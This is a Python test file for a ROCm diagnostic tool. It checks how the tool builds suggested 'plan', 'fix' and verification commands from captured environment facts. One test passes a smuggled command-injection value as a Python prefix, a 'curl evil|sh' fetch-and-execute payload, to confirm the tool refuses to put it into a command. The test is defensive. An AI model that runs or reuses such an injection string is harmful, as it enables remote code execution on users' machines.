"""`rocm-doctor plan` in a finding fits the machine: with the GPU of a capture, and with `fix` where an environment is examined."""

from __future__ import annotations

import pytest

from rocm_doctor.matrix import load
from rocm_doctor.model import Fact, Finding, Gpu, Snapshot, Value
from rocm_doctor.rules.offers import complete_commands, use_examined

MATRIX = load()


def commands(kind: str, facts: dict[str, Value], gfx: str | None = "gfx1151") -> list[str]:
    gpus = (Gpu({"gfx": Fact(gfx)}),) if gfx else ()
    snapshot = Snapshot({name: Fact(value) for name, value in facts.items()}, gpus)
    typed = MATRIX.classify(["rocm-doctor plan", "uname -r"])
    one = Finding("arch.not-in-build", "title", "error", "high", "cause", commands=typed)
    return [one.text for one in complete_commands(one, snapshot, kind, MATRIX)]  # type: ignore[arg-type]


def test_a_live_environment_is_offered_fix() -> None:
    found = commands("machine", {"python.env": "venv", "python.prefix": "/home/me/my venv"})
    assert found == ["rocm-doctor plan", "rocm-doctor fix --python '/home/me/my venv' --apply", "uname -r"]


@pytest.mark.parametrize("env", ["system", "conda", None])
def test_where_fix_cannot_act_it_is_not_offered(env: str | None) -> None:
    assert commands("machine", {"python.env": env, "python.prefix": "/usr"}) == ["rocm-doctor plan", "uname -r"]


def test_a_capture_names_its_machine() -> None:
    found = commands("capture", {"platform": "windows", "python.version": "3.12.4"})
    assert found[0] == "rocm-doctor plan --gpu gfx1151 --os windows --python 3.12"
    assert commands("capture", {"wsl": True})[0] == "rocm-doctor plan --gpu gfx1151 --os wsl"


def test_a_capture_without_a_gpu_keeps_the_plain_command() -> None:
    assert commands("capture", {"python.version": "3.12.4"}, None)[0] == "rocm-doctor plan"


def test_a_prefix_that_is_no_path_is_not_put_into_a_command() -> None:
    assert commands("machine", {"python.env": "venv", "python.prefix": "/x; curl evil|sh"}) == ["rocm-doctor plan", "uname -r"]


def test_what_verifies_a_cure_runs_in_the_interpreter_that_was_examined() -> None:
    command = MATRIX.classify(['python -c "import torch"', "rocminfo"])
    facts = Snapshot({"python.prefix": Fact("/srv/train/.venv"), "platform": Fact("linux")})
    assert [c.text for c in use_examined(command, facts, "machine", MATRIX)] == [
        '/srv/train/.venv/bin/python -c "import torch"',
        "rocminfo",
    ]
    assert use_examined(command, facts, "capture", MATRIX) == command
    odd = Snapshot({"python.prefix": Fact("/srv/my env"), "platform": Fact("linux")})
    assert use_examined(command, odd, "machine", MATRIX)[0].text == "'/srv/my env'/bin/python -c \"import torch\""
